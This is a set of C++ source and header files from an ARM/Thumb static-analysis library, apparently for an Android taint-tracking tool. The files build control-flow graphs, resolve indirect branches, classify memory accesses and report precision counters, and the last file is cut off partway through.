  GuestAddr start = 0;
  GuestAddr end = 0;  // exclusive (address after the last instruction)
  std::vector<arm::Insn> insns;
  /// Successor block starts within the same function. A conditional branch
  /// (explicit condition or an IT-covered encoding) contributes both the
  /// target and the fall-through; calls contribute their fall-through; a
  /// resolved indirect branch contributes every enumerated table target.
  std::vector<GuestAddr> succs;
  /// BL/BLX call targets (bit 0 = Thumb), one entry per call site in block
  /// order; kUnresolvedCallTarget marks an unresolved BLX site.
  std::vector<GuestAddr> call_targets;
  /// Parallel to call_targets: the target shifts with the image on a rebase
  /// (BL is PC-relative; resolved BLX only when VSA proved the value
  /// PC-derived). Unresolved sites carry false.
  std::vector<u8> call_target_relocatable;
  /// At least one call site's *target* is unresolved (call_targets holds
  /// kUnresolvedCallTarget there). The successor set is still complete —
  /// this flag never implies truncation; see has_indirect_jump for that.
  bool has_indirect_call = false;
  bool is_return = false;  // BX LR / POP{PC} / LDM with PC
  /// PC written from a value the lifter + VSA could not resolve (or a direct
  /// branch out of the known image): the successor set is *incomplete* and
  /// every consumer must treat the block as truncating the walk.
  bool has_indirect_jump = false;
  /// Set when has_indirect_jump was cleared by VSA resolution: how.
  JumpTable jump_table;
};

struct FunctionCfg {
  GuestAddr entry = 0;  // Thumb bit stripped
  bool thumb = false;
  std::string name;
  GuestAddr lo = 0;  // address span covered by the lifted blocks
  GuestAddr hi = 0;  // exclusive
  std::map<GuestAddr, BasicBlock> blocks;
  /// Call-graph edges: resolved callee entries inside the code regions
  /// (bit 0 = callee mode, as in FunctionEntry::addr).
  std::vector<GuestAddr> callees;
  /// Every load/store site, in discovery order.
  std::vector<MemAccess> mem_accesses;
  bool has_svc = false;
  bool has_indirect_calls = false;
  bool has_indirect_jumps = false;
  bool truncated = false;  // hit the per-function instruction budget
  u32 insn_count = 0;

  // Precision surface: how the function's indirect control flow fared, plus
  // the first-degradation chain (bounded; counters stay exact).
  u32 resolved_indirect_branches = 0;
  u32 unresolved_indirect_branches = 0;
  u32 resolved_indirect_calls = 0;
  u32 unresolved_indirect_calls = 0;
  std::vector<DegradeSite> degrade_sites;

  static constexpr std::size_t kMaxDegradeSites = 16;
  void degrade(GuestAddr pc, DegradeReason reason) {
    if (degrade_sites.size() < kMaxDegradeSites) {
      degrade_sites.push_back({pc, reason});
    }
  }

  /// Block containing `pc` (Thumb bit stripped), or nullptr.
  [[nodiscard]] const BasicBlock* block_at(GuestAddr pc) const;
  [[nodiscard]] bool contains(GuestAddr pc) const {
    return pc >= lo && pc < hi;
  }
};

struct Program {
  /// Keyed by entry address (Thumb bit stripped).
  std::map<GuestAddr, FunctionCfg> functions;

  [[nodiscard]] const FunctionCfg* function(GuestAddr entry) const;
  /// Linear scan over [lo, hi) spans — fine for reports and tests; the
  /// dynamic gate builds its own sorted interval table from this map.
  [[nodiscard]] const FunctionCfg* function_containing(GuestAddr pc) const;
};

class Vsa;  // vsa.h

class CfgLifter {
 public:
  /// Per-function instruction budget; functions that blow it are flagged
  /// `truncated` and summarised as opaque.
  static constexpr u32 kMaxFunctionInsns = 16384;
  /// Rounds of lift -> VSA -> resolve-indirects -> re-lift per function.
  /// Each round only runs when the previous one discovered new blocks.
  static constexpr u32 kResolveRounds = 4;

  CfgLifter(const mem::AddressSpace& memory, std::vector<CodeRegion> regions);

  /// Lifts every entry, then follows resolved call edges transitively
  /// (callees inside the code regions become functions named sub_<addr>).
  [[nodiscard]] Program lift(const std::vector<FunctionEntry>& entries) const;

  [[nodiscard]] bool in_code(GuestAddr addr) const;

 private:
  FunctionCfg lift_function(GuestAddr entry, std::string name) const;
  /// Final pass over resolved blocks, walking each from its VSA entry
  /// state: memory-access classification, BLX-register resolution, the
  /// precision counters and degradation sites. Fills mem_accesses/callees.
  void analyze_blocks(FunctionCfg& fn, const Vsa& vsa) const;
  /// Base of the code region containing `addr` (image-relative anchor for
  /// PC-derived values), or 0 when `addr` is outside every region.
  [[nodiscard]] GuestAddr region_base(GuestAddr addr) const;

  const mem::AddressSpace& memory_;
  std::vector<CodeRegion> regions_;
};

}  // namespace ndroid::static_analysis
