// JSON serialisation of the static pre-analysis results (consumed by the
// ndroid-scan CLI and the experiment scripts).
#pragma once

#include <string>

#include "static/cfg.h"
#include "static/summary.h"

namespace ndroid::static_analysis {

[[nodiscard]] std::string to_json(const Program& program,
                                  const SummaryIndex& index);

[[nodiscard]] const char* to_string(MemKind kind);

}  // namespace ndroid::static_analysis
