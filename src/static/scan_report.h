// JSON serialisation of the static pre-analysis results (consumed by the
// ndroid-scan CLI and the experiment scripts), plus the first-class
// precision surface: per-program PrecisionReport aggregates and the
// human-readable `--explain` audit that gives a degradation reason chain
// for every non-transparent function.
#pragma once

#include <string>

#include "static/cfg.h"
#include "static/summary.h"

namespace ndroid::static_analysis {

/// Aggregated precision facts over one lifted program: the verdict
/// histogram plus the resolved/unresolved indirect-control-flow counters
/// that ndroid-scan and bench stamp into their JSON, and that the CI
/// precision gate compares against a checked-in budget.
struct PrecisionReport {
  u32 functions = 0;
  u32 transparent = 0;       // summaries the hook engine skips entirely
  u32 opaque_summaries = 0;  // TaintSummary::opaque(): gate never skips
  u32 truncated = 0;
  u32 degraded = 0;  // functions carrying a non-empty degrade chain
  u32 mem_kind_counts[4] = {};  // verdict histogram, indexed by MemKind
  u32 resolved_indirect_branches = 0;
  u32 unresolved_indirect_branches = 0;
  u32 resolved_indirect_calls = 0;
  u32 unresolved_indirect_calls = 0;
  u32 reason_counts[kDegradeReasonCount] = {};  // indexed by DegradeReason

  /// Element-wise sum (multi-app corpus roll-up for the budget gate).
  void accumulate(const PrecisionReport& other);
};

[[nodiscard]] PrecisionReport precision_report(const Program& program,
                                               const SummaryIndex& index);

/// Per-function blocks, call edges, taint summary, precision counters and
/// degrade chains, plus the aggregate "precision" object.
[[nodiscard]] std::string to_json(const Program& program,
                                  const SummaryIndex& index);
[[nodiscard]] std::string to_json(const PrecisionReport& report);

/// Human-readable audit: one line per function with its verdict; every
/// non-transparent function gets a reason chain explaining where precision
/// was first lost. When the lift itself never degraded (the facts are exact
/// and the function is simply not a no-op), the "why" is synthesised from
/// the summary: memory effects, call sites, SVC, argument flows.
[[nodiscard]] std::string explain(const Program& program,
                                  const SummaryIndex& index);

[[nodiscard]] const char* to_string(MemKind kind);

}  // namespace ndroid::static_analysis
