#include "static/cfg.h"

#include <algorithm>
#include <bit>
#include <optional>

#include "arm/decoder.h"

namespace ndroid::static_analysis {

using arm::Cond;
using arm::Insn;
using arm::Op;
using arm::ShiftType;

namespace {

constexpr u8 kRegSP = 13;
constexpr u8 kRegLR = 14;
constexpr u8 kRegPC = 15;

/// ITSTATE advance, mirroring arm::advance_itstate (kept local so this
/// library depends only on the decoder half of src/arm).
u8 advance_it(u8 it) {
  return (it & 0x07) == 0 ? u8{0}
                          : static_cast<u8>((it & 0xE0) | ((it << 1) & 0x1F));
}

/// True for data-processing ops that write Rd (compares only set flags).
bool dp_writes_rd(Op op) {
  switch (op) {
    case Op::kTst:
    case Op::kTeq:
    case Op::kCmp:
    case Op::kCmn:
      return false;
    default:
      return true;
  }
}

bool is_dp(Op op) {
  switch (op) {
    case Op::kAnd:
    case Op::kEor:
    case Op::kSub:
    case Op::kRsb:
    case Op::kAdd:
    case Op::kAdc:
    case Op::kSbc:
    case Op::kRsc:
    case Op::kTst:
    case Op::kTeq:
    case Op::kCmp:
    case Op::kCmn:
    case Op::kOrr:
    case Op::kMov:
    case Op::kBic:
    case Op::kMvn:
      return true;
    default:
      return false;
  }
}

u32 access_bytes(Op op) {
  switch (op) {
    case Op::kLdrb:
    case Op::kLdrsb:
    case Op::kStrb:
      return 1;
    case Op::kLdrh:
    case Op::kLdrsh:
    case Op::kStrh:
      return 2;
    default:
      return 4;
  }
}

/// Branch target of B/BL at `pc` (executor semantics: base is PC+4 in Thumb,
/// PC+8 in ARM).
GuestAddr branch_target(const Insn& insn, GuestAddr pc, bool thumb) {
  return pc + (thumb ? 4u : 8u) + static_cast<u32>(insn.branch_offset);
}

/// Block-local constant-propagation state. SP is deliberately never "known":
/// stack addresses are classified by base register, not value.
struct ConstState {
  std::array<u32, 16> val{};
  u16 known = 0;

  [[nodiscard]] bool is_known(u8 r) const { return (known & (1u << r)) != 0; }
  [[nodiscard]] u32 get(u8 r) const { return val[r]; }
  void set(u8 r, u32 v) {
    if (r >= kRegSP) return;  // SP/LR/PC stay symbolic
    val[r] = v;
    known |= (1u << r);
  }
  void kill(u8 r) { known &= static_cast<u16>(~(1u << r)); }
  void kill_caller_saved() {
    kill(0);
    kill(1);
    kill(2);
    kill(3);
    kill(12);
    kill(kRegLR);
  }
};

std::optional<u32> shifted_operand(const ConstState& st, const Insn& insn) {
  if (insn.imm_operand) return insn.imm;  // ARM immediates arrive pre-rotated
  if (insn.shift_by_reg || !st.is_known(insn.rm)) return std::nullopt;
  const u32 v = st.get(insn.rm);
  const u32 n = insn.shift_amount;
  switch (insn.shift) {
    case ShiftType::kLSL: return n >= 32 ? 0 : v << n;
    case ShiftType::kLSR: return n >= 32 ? 0 : v >> n;
    case ShiftType::kASR:
      return static_cast<u32>(static_cast<i32>(v) >> std::min<u32>(n, 31));
    default: return std::nullopt;  // ROR/RRX: not needed for lifting
  }
}

std::optional<u32> eval_dp(const ConstState& st, const Insn& insn) {
  const std::optional<u32> op2 = shifted_operand(st, insn);
  if (!op2.has_value()) return std::nullopt;
  switch (insn.op) {
    case Op::kMov: return *op2;
    case Op::kMvn: return ~*op2;
    default: break;
  }
  if (!st.is_known(insn.rn)) return std::nullopt;
  const u32 rn = st.get(insn.rn);
  switch (insn.op) {
    case Op::kAnd: return rn & *op2;
    case Op::kEor: return rn ^ *op2;
    case Op::kSub: return rn - *op2;
    case Op::kRsb: return *op2 - rn;
    case Op::kAdd: return rn + *op2;
    case Op::kOrr: return rn | *op2;
    case Op::kBic: return rn & ~*op2;
    default: return std::nullopt;  // carry-dependent forms
  }
}

}  // namespace

const BasicBlock* FunctionCfg::block_at(GuestAddr pc) const {
  auto it = blocks.upper_bound(pc);
  if (it == blocks.begin()) return nullptr;
  --it;
  return pc < it->second.end ? &it->second : nullptr;
}

const FunctionCfg* Program::function(GuestAddr entry) const {
  auto it = functions.find(entry & ~1u);
  return it == functions.end() ? nullptr : &it->second;
}

const FunctionCfg* Program::function_containing(GuestAddr pc) const {
  for (const auto& [entry, fn] : functions) {
    if (fn.contains(pc)) return &fn;
  }
  return nullptr;
}

CfgLifter::CfgLifter(const mem::AddressSpace& memory,
                     std::vector<CodeRegion> regions)
    : memory_(memory), regions_(std::move(regions)) {}

bool CfgLifter::in_code(GuestAddr addr) const {
  return std::any_of(regions_.begin(), regions_.end(),
                     [addr](const CodeRegion& r) {
                       return addr >= r.start && addr < r.end;
                     });
}

Program CfgLifter::lift(const std::vector<FunctionEntry>& entries) const {
  Program program;
  std::vector<FunctionEntry> work = entries;
  while (!work.empty()) {
    const FunctionEntry e = work.back();
    work.pop_back();
    const GuestAddr entry = e.addr & ~1u;
    if (!in_code(entry) || program.functions.count(entry) != 0) continue;
    FunctionCfg fn = lift_function(
        e.addr, e.name.empty() ? "sub_" + std::to_string(entry) : e.name);
    // Resolved call edges become new roots (the transitive call-graph
    // closure the summary fixed point runs over).
    for (GuestAddr callee : fn.callees) {
      // A callee already lifted (or out of region) is filtered above.
      work.push_back({callee, ""});
    }
    program.functions.emplace(entry, std::move(fn));
  }
  return program;
}

FunctionCfg CfgLifter::lift_function(GuestAddr entry, std::string name) const {
  FunctionCfg fn;
  fn.entry = entry & ~1u;
  fn.thumb = (entry & 1u) != 0;
  fn.name = std::move(name);

  auto fetch = [&](GuestAddr pc) {
    if (fn.thumb) {
      return arm::decode_thumb(memory_.read16(pc), memory_.read16(pc + 2));
    }
    return arm::decode_arm(memory_.read32(pc));
  };

  // Splits the block containing `at` on an instruction boundary. Returns
  // false when `at` is inside no block (caller decodes a fresh one).
  auto split_at = [&](GuestAddr at) -> bool {
    auto it = fn.blocks.upper_bound(at);
    if (it == fn.blocks.begin()) return false;
    --it;
    BasicBlock& b = it->second;
    if (at <= b.start || at >= b.end) return false;
    GuestAddr pc = b.start;
    std::size_t i = 0;
    while (i < b.insns.size() && pc < at) pc += b.insns[i++].length;
    if (pc != at) return true;  // misaligned target: swallow, stay sound
    BasicBlock nb;
    nb.start = at;
    nb.end = b.end;
    nb.insns.assign(b.insns.begin() + static_cast<std::ptrdiff_t>(i),
                    b.insns.end());
    nb.succs = std::move(b.succs);
    nb.is_return = b.is_return;
    nb.has_indirect_jump = b.has_indirect_jump;
    b.insns.resize(i);
    b.end = at;
    b.succs = {at};
    b.is_return = false;
    b.has_indirect_jump = false;
    fn.blocks.emplace(at, std::move(nb));
    return true;
  };

  std::vector<GuestAddr> work{fn.entry};
  while (!work.empty()) {
    const GuestAddr start = work.back();
    work.pop_back();
    if (!in_code(start)) continue;
    if (fn.blocks.count(start) != 0) continue;
    if (split_at(start)) continue;

    BasicBlock bb;
    bb.start = start;
    GuestAddr cur = start;
    u8 itstate = 0;
    while (true) {
      if (!in_code(cur) || fn.insn_count >= kMaxFunctionInsns) {
        fn.truncated = fn.truncated || fn.insn_count >= kMaxFunctionInsns;
        break;
      }
      if (cur != start && fn.blocks.count(cur) != 0) {
        bb.succs.push_back(cur);
        break;
      }
      const Insn insn = fetch(cur);
      if (insn.op == Op::kUndefined) break;
      const GuestAddr next = cur + insn.length;
      const bool under_it = itstate != 0 && insn.op != Op::kIt;
      const Cond cond =
          under_it ? static_cast<Cond>(itstate >> 4) : insn.cond;
      const bool conditional = cond != Cond::kAL;
      if (insn.op == Op::kIt) {
        itstate = static_cast<u8>(insn.imm);
      } else if (under_it) {
        itstate = advance_it(itstate);
      }
      bb.insns.push_back(insn);
      ++fn.insn_count;

      bool terminate = false;
      switch (insn.op) {
        case Op::kSvc:
          fn.has_svc = true;
          break;
        case Op::kB: {
          const GuestAddr target = branch_target(insn, cur, fn.thumb);
          if (in_code(target)) {
            bb.succs.push_back(target);
            work.push_back(target);
          } else {
            bb.has_indirect_jump = true;  // branch out of the known image
          }
          if (conditional) {
            bb.succs.push_back(next);
            work.push_back(next);
          }
          terminate = true;
          break;
        }
        case Op::kBl:
          // Call: fall through continues the block; the edge itself is
          // recorded by analyze_blocks (with BLX-register resolution).
          break;
        case Op::kBx:
          bb.is_return = insn.rm == kRegLR;
          bb.has_indirect_jump = insn.rm != kRegLR;
          if (conditional) {
            bb.succs.push_back(next);
            work.push_back(next);
          }
          terminate = true;
          break;
        case Op::kBlxReg:
          break;  // call through register; analyze_blocks classifies it
        case Op::kLdm:
          if ((insn.reglist & (1u << kRegPC)) != 0) {
            bb.is_return = true;  // POP {.., pc}
            if (conditional) {
              bb.succs.push_back(next);
              work.push_back(next);
            }
            terminate = true;
          }
          break;
        case Op::kLdr:
          if (insn.rd == kRegPC) {
            bb.has_indirect_jump = true;
            terminate = true;
          }
          break;
        default:
          if (is_dp(insn.op) && dp_writes_rd(insn.op) && insn.rd == kRegPC) {
            // MOV pc, lr is the classic non-interworking return.
            bb.is_return = insn.op == Op::kMov && !insn.imm_operand &&
                           insn.rm == kRegLR;
            bb.has_indirect_jump = !bb.is_return;
            if (conditional) {
              bb.succs.push_back(next);
              work.push_back(next);
            }
            terminate = true;
          }
          break;
      }
      cur = next;
      if (terminate) break;
    }
    bb.end = cur;
    if (!bb.insns.empty()) fn.blocks.emplace(start, std::move(bb));
  }

  if (!fn.blocks.empty()) {
    fn.lo = fn.blocks.begin()->first;
    fn.hi = 0;
    for (const auto& [_, b] : fn.blocks) fn.hi = std::max(fn.hi, b.end);
  } else {
    fn.lo = fn.hi = fn.entry;
  }
  analyze_blocks(fn);
  return fn;
}

void CfgLifter::analyze_blocks(FunctionCfg& fn) const {
  for (auto& [start, bb] : fn.blocks) {
    ConstState st;
    u8 itstate = 0;
    GuestAddr pc = bb.start;
    for (const Insn& insn : bb.insns) {
      const GuestAddr next = pc + insn.length;
      const bool under_it = itstate != 0 && insn.op != Op::kIt;
      const Cond cond =
          under_it ? static_cast<Cond>(itstate >> 4) : insn.cond;
      // A conditionally executed definition may not happen; its target is
      // unknown afterwards, never constant.
      const bool conditional = cond != Cond::kAL;
      if (insn.op == Op::kIt) {
        itstate = static_cast<u8>(insn.imm);
      } else if (under_it) {
        itstate = advance_it(itstate);
      }

      auto define = [&](u8 r, std::optional<u32> v) {
        if (conditional || !v.has_value()) {
          st.kill(r);
        } else {
          st.set(r, *v);
        }
      };

      auto record_access = [&](bool is_store, u32 size,
                               std::optional<GuestAddr> abs) {
        MemAccess a;
        a.pc = pc;
        a.size = size;
        a.is_store = is_store;
        if (abs.has_value()) {
          a.kind = MemAccess::Kind::kConstAddr;
          a.addr = *abs;
        } else if (insn.rn == kRegSP) {
          a.kind = MemAccess::Kind::kSpRelative;
        } else {
          a.kind = MemAccess::Kind::kUnknown;
        }
        fn.mem_accesses.push_back(a);
      };

      switch (insn.op) {
        case Op::kMovw:
          define(insn.rd, insn.imm);
          break;
        case Op::kMovt:
          define(insn.rd, st.is_known(insn.rd)
                              ? std::optional<u32>((st.get(insn.rd) & 0xFFFFu) |
                                                   (insn.imm << 16))
                              : std::nullopt);
          break;
        case Op::kMul:
        case Op::kMla:
        case Op::kSdiv:
        case Op::kUdiv:
        case Op::kClz:
        case Op::kSxtb:
        case Op::kSxth:
        case Op::kUxtb:
        case Op::kUxth:
          st.kill(insn.rd);
          break;
        case Op::kUmull:
        case Op::kSmull:
          st.kill(insn.rd);
          st.kill(insn.rn);  // RdHi
          break;
        case Op::kLdr:
        case Op::kLdrb:
        case Op::kLdrh:
        case Op::kLdrsb:
        case Op::kLdrsh:
        case Op::kStr:
        case Op::kStrb:
        case Op::kStrh: {
          const bool is_store = insn.op == Op::kStr ||
                                insn.op == Op::kStrb || insn.op == Op::kStrh;
          std::optional<u32> base;
          if (insn.rn == kRegPC) {
            // Literal addressing: base is the aligned PC.
            base = (pc + (fn.thumb ? 4u : 8u)) & ~3u;
          } else if (st.is_known(insn.rn)) {
            base = st.get(insn.rn);
          }
          std::optional<u32> offset;
          if (!insn.reg_offset) {
            offset = insn.imm;
          } else if (!insn.shift_by_reg && st.is_known(insn.rm)) {
            offset = shifted_operand(st, insn);
          }
          std::optional<GuestAddr> addr;
          if (base.has_value() && (!insn.pre_index || offset.has_value())) {
            addr = insn.pre_index
                       ? (insn.add_offset ? *base + *offset : *base - *offset)
                       : *base;
          }
          record_access(is_store, access_bytes(insn.op), addr);
          if (!is_store) {
            // A PC-literal word load from inside the code image is a true
            // constant (literal pools are read-only at lift time).
            if (insn.op == Op::kLdr && addr.has_value() && in_code(*addr) &&
                insn.rn == kRegPC) {
              define(insn.rd, memory_.read32(*addr));
            } else {
              st.kill(insn.rd);
            }
          }
          if (!insn.pre_index || insn.writeback) {
            define(insn.rn, base.has_value() && offset.has_value()
                                ? std::optional<u32>(insn.add_offset
                                                         ? *base + *offset
                                                         : *base - *offset)
                                : std::nullopt);
          }
          break;
        }
        case Op::kLdm:
        case Op::kStm: {
          const u32 count = static_cast<u32>(std::popcount(insn.reglist)) * 4;
          std::optional<GuestAddr> addr;
          if (insn.rn != kRegSP && st.is_known(insn.rn) && count != 0) {
            // Window covering both ascending and descending variants.
            addr = st.get(insn.rn) - count;
          }
          MemAccess a;
          a.pc = pc;
          a.size = 2 * count;
          a.is_store = insn.op == Op::kStm;
          if (addr.has_value()) {
            a.kind = MemAccess::Kind::kConstAddr;
            a.addr = *addr;
          } else if (insn.rn == kRegSP) {
            a.kind = MemAccess::Kind::kSpRelative;
          } else {
            a.kind = MemAccess::Kind::kUnknown;
          }
          if (count != 0) fn.mem_accesses.push_back(a);
          if (insn.op == Op::kLdm) {
            for (u8 r = 0; r < 16; ++r) {
              if ((insn.reglist & (1u << r)) != 0) st.kill(r);
            }
          }
          if (insn.writeback) st.kill(insn.rn);
          break;
        }
        case Op::kBl: {
          const GuestAddr target = branch_target(insn, pc, fn.thumb);
          const GuestAddr mode_target = target | (fn.thumb ? 1u : 0u);
          bb.call_targets.push_back(mode_target);
          if (in_code(target)) fn.callees.push_back(mode_target);
          st.kill_caller_saved();
          break;
        }
        case Op::kBlxReg:
          if (st.is_known(insn.rm)) {
            const GuestAddr target = st.get(insn.rm);
            bb.call_targets.push_back(target);
            if (in_code(target & ~1u)) fn.callees.push_back(target);
          } else {
            bb.call_targets.push_back(0);  // keep call sites positional
            bb.has_indirect_call = true;
            fn.has_indirect_calls = true;
          }
          st.kill_caller_saved();
          break;
        case Op::kSvc:
          st.kill(0);  // kernel return value
          break;
        case Op::kB:
        case Op::kBx:
        case Op::kIt:
        case Op::kNop:
        case Op::kUndefined:
          break;
        default:
          if (is_dp(insn.op)) {
            if (dp_writes_rd(insn.op)) define(insn.rd, eval_dp(st, insn));
          } else {
            st.kill(insn.rd);  // unmodelled: drop whatever it may write
          }
          break;
      }
      pc = next;
    }
    fn.has_indirect_jumps = fn.has_indirect_jumps || bb.has_indirect_jump;
  }

  std::sort(fn.callees.begin(), fn.callees.end());
  fn.callees.erase(std::unique(fn.callees.begin(), fn.callees.end()),
                   fn.callees.end());
}

}  // namespace ndroid::static_analysis
