#include "static/cfg.h"

#include <algorithm>
#include <bit>

#include "arm/decoder.h"
#include "static/vsa.h"

namespace ndroid::static_analysis {

using arm::Cond;
using arm::Insn;
using arm::Op;

namespace {

constexpr u8 kRegSP = 13;
constexpr u8 kRegLR = 14;
constexpr u8 kRegPC = 15;

/// ITSTATE advance, mirroring arm::advance_itstate (kept local so this
/// library depends only on the decoder half of src/arm).
u8 advance_it(u8 it) {
  return (it & 0x07) == 0 ? u8{0}
                          : static_cast<u8>((it & 0xE0) | ((it << 1) & 0x1F));
}

/// True for data-processing ops that write Rd (compares only set flags).
bool dp_writes_rd(Op op) {
  switch (op) {
    case Op::kTst:
    case Op::kTeq:
    case Op::kCmp:
    case Op::kCmn:
      return false;
    default:
      return true;
  }
}

bool is_dp(Op op) {
  switch (op) {
    case Op::kAnd:
    case Op::kEor:
    case Op::kSub:
    case Op::kRsb:
    case Op::kAdd:
    case Op::kAdc:
    case Op::kSbc:
    case Op::kRsc:
    case Op::kTst:
    case Op::kTeq:
    case Op::kCmp:
    case Op::kCmn:
    case Op::kOrr:
    case Op::kMov:
    case Op::kBic:
    case Op::kMvn:
      return true;
    default:
      return false;
  }
}

u32 access_bytes(Op op) {
  switch (op) {
    case Op::kLdrb:
    case Op::kLdrsb:
    case Op::kStrb:
      return 1;
    case Op::kLdrh:
    case Op::kLdrsh:
    case Op::kStrh:
      return 2;
    default:
      return 4;
  }
}

/// Branch target of B/BL at `pc` (executor semantics: base is PC+4 in Thumb,
/// PC+8 in ARM).
GuestAddr branch_target(const Insn& insn, GuestAddr pc, bool thumb) {
  return pc + (thumb ? 4u : 8u) + static_cast<u32>(insn.branch_offset);
}

/// Widest const window a strided access set may be flattened to before the
/// access degrades to kUnknown.
constexpr u32 kMaxWindowSpan = 4096;

}  // namespace

const char* to_string(DegradeReason reason) {
  switch (reason) {
    case DegradeReason::kTruncated: return "truncated";
    case DegradeReason::kUnresolvedJump: return "unresolved_jump";
    case DegradeReason::kBranchOutOfImage: return "branch_out_of_image";
    case DegradeReason::kUnresolvedCall: return "unresolved_call";
    case DegradeReason::kCallOutOfImage: return "call_out_of_image";
    case DegradeReason::kUnknownMemAccess: return "unknown_mem_access";
    case DegradeReason::kSvc: return "svc";
    case DegradeReason::kStaleAbsoluteConst: return "stale_absolute_const";
    case DegradeReason::kStaleJumpTable: return "stale_jump_table";
    case DegradeReason::kStaleCallTarget: return "stale_call_target";
  }
  return "unknown";
}

const char* to_string(JumpTableKind kind) {
  switch (kind) {
    case JumpTableKind::kNone: return "none";
    case JumpTableKind::kTbb: return "tbb";
    case JumpTableKind::kTbh: return "tbh";
    case JumpTableKind::kWordTable: return "word_table";
    case JumpTableKind::kComputed: return "computed";
  }
  return "unknown";
}

const BasicBlock* FunctionCfg::block_at(GuestAddr pc) const {
  auto it = blocks.upper_bound(pc);
  if (it == blocks.begin()) return nullptr;
  --it;
  return pc < it->second.end ? &it->second : nullptr;
}

const FunctionCfg* Program::function(GuestAddr entry) const {
  auto it = functions.find(entry & ~1u);
  return it == functions.end() ? nullptr : &it->second;
}

const FunctionCfg* Program::function_containing(GuestAddr pc) const {
  for (const auto& [entry, fn] : functions) {
    if (fn.contains(pc)) return &fn;
  }
  return nullptr;
}

CfgLifter::CfgLifter(const mem::AddressSpace& memory,
                     std::vector<CodeRegion> regions)
    : memory_(memory), regions_(std::move(regions)) {}

bool CfgLifter::in_code(GuestAddr addr) const {
  return std::any_of(regions_.begin(), regions_.end(),
                     [addr](const CodeRegion& r) {
                       return addr >= r.start && addr < r.end;
                     });
}

GuestAddr CfgLifter::region_base(GuestAddr addr) const {
  for (const CodeRegion& r : regions_) {
    if (addr >= r.start && addr < r.end) return r.start;
  }
  return 0;
}

Program CfgLifter::lift(const std::vector<FunctionEntry>& entries) const {
  Program program;
  std::vector<FunctionEntry> work = entries;
  while (!work.empty()) {
    const FunctionEntry e = work.back();
    work.pop_back();
    const GuestAddr entry = e.addr & ~1u;
    if (!in_code(entry) || program.functions.count(entry) != 0) continue;
    FunctionCfg fn = lift_function(
        e.addr, e.name.empty() ? "sub_" + std::to_string(entry) : e.name);
    // Resolved call edges become new roots (the transitive call-graph
    // closure the summary fixed point runs over).
    for (GuestAddr callee : fn.callees) {
      // A callee already lifted (or out of region) is filtered above.
      work.push_back({callee, ""});
    }
    program.functions.emplace(entry, std::move(fn));
  }
  return program;
}

FunctionCfg CfgLifter::lift_function(GuestAddr entry, std::string name) const {
  FunctionCfg fn;
  fn.entry = entry & ~1u;
  fn.thumb = (entry & 1u) != 0;
  fn.name = std::move(name);

  auto fetch = [&](GuestAddr pc) {
    if (fn.thumb) {
      return arm::decode_thumb(memory_.read16(pc), memory_.read16(pc + 2));
    }
    return arm::decode_arm(memory_.read32(pc));
  };

  // Splits the block containing `at` on an instruction boundary. Returns
  // false when `at` is inside no block (caller decodes a fresh one).
  auto split_at = [&](GuestAddr at) -> bool {
    auto it = fn.blocks.upper_bound(at);
    if (it == fn.blocks.begin()) return false;
    --it;
    BasicBlock& b = it->second;
    if (at <= b.start || at >= b.end) return false;
    GuestAddr pc = b.start;
    std::size_t i = 0;
    while (i < b.insns.size() && pc < at) pc += b.insns[i++].length;
    if (pc != at) return true;  // misaligned target: swallow, stay sound
    BasicBlock nb;
    nb.start = at;
    nb.end = b.end;
    nb.insns.assign(b.insns.begin() + static_cast<std::ptrdiff_t>(i),
                    b.insns.end());
    nb.succs = std::move(b.succs);
    nb.is_return = b.is_return;
    nb.has_indirect_jump = b.has_indirect_jump;
    nb.jump_table = b.jump_table;
    b.insns.resize(i);
    b.end = at;
    b.succs = {at};
    b.is_return = false;
    b.has_indirect_jump = false;
    b.jump_table = JumpTable{};
    fn.blocks.emplace(at, std::move(nb));
    return true;
  };

  // Decodes new blocks (and splits existing ones) from every address in
  // `work` until the frontier drains or the instruction budget blows.
  auto explore = [&](std::vector<GuestAddr> work) {
    while (!work.empty()) {
      const GuestAddr start = work.back();
      work.pop_back();
      if (!in_code(start)) continue;
      if (fn.blocks.count(start) != 0) continue;
      if (split_at(start)) continue;

      BasicBlock bb;
      bb.start = start;
      GuestAddr cur = start;
      u8 itstate = 0;
      while (true) {
        if (!in_code(cur) || fn.insn_count >= kMaxFunctionInsns) {
          fn.truncated = fn.truncated || fn.insn_count >= kMaxFunctionInsns;
          break;
        }
        if (cur != start && fn.blocks.count(cur) != 0) {
          bb.succs.push_back(cur);
          break;
        }
        const Insn insn = fetch(cur);
        if (insn.op == Op::kUndefined) break;
        const GuestAddr next = cur + insn.length;
        const bool under_it = itstate != 0 && insn.op != Op::kIt;
        const Cond cond =
            under_it ? static_cast<Cond>(itstate >> 4) : insn.cond;
        const bool conditional = cond != Cond::kAL;
        if (insn.op == Op::kIt) {
          itstate = static_cast<u8>(insn.imm);
        } else if (under_it) {
          itstate = advance_it(itstate);
        }
        bb.insns.push_back(insn);
        ++fn.insn_count;

        bool terminate = false;
        switch (insn.op) {
          case Op::kSvc:
            fn.has_svc = true;
            break;
          case Op::kB: {
            const GuestAddr target = branch_target(insn, cur, fn.thumb);
            if (in_code(target)) {
              bb.succs.push_back(target);
              work.push_back(target);
            } else {
              bb.has_indirect_jump = true;  // branch out of the known image
            }
            if (conditional) {
              bb.succs.push_back(next);
              work.push_back(next);
            }
            terminate = true;
            break;
          }
          case Op::kBl:
            // Call: fall through continues the block; the edge itself is
            // recorded by analyze_blocks (with BLX-register resolution).
            break;
          case Op::kBx:
            bb.is_return = insn.rm == kRegLR;
            bb.has_indirect_jump = insn.rm != kRegLR;
            if (conditional) {
              bb.succs.push_back(next);
              work.push_back(next);
            }
            terminate = true;
            break;
          case Op::kBlxReg:
            break;  // call through register; analyze_blocks classifies it
          case Op::kTbb:
          case Op::kTbh:
            // Table branch: indirect until a VSA round resolves it.
            bb.has_indirect_jump = true;
            terminate = true;
            break;
          case Op::kLdm:
            if ((insn.reglist & (1u << kRegPC)) != 0) {
              bb.is_return = true;  // POP {.., pc}
              if (conditional) {
                bb.succs.push_back(next);
                work.push_back(next);
              }
              terminate = true;
            }
            break;
          case Op::kLdr:
            if (insn.rd == kRegPC) {
              bb.has_indirect_jump = true;
              if (conditional) {
                bb.succs.push_back(next);
                work.push_back(next);
              }
              terminate = true;
            }
            break;
          default:
            if (is_dp(insn.op) && dp_writes_rd(insn.op) &&
                insn.rd == kRegPC) {
              // MOV pc, lr is the classic non-interworking return.
              bb.is_return = insn.op == Op::kMov && !insn.imm_operand &&
                             insn.rm == kRegLR;
              bb.has_indirect_jump = !bb.is_return;
              if (conditional) {
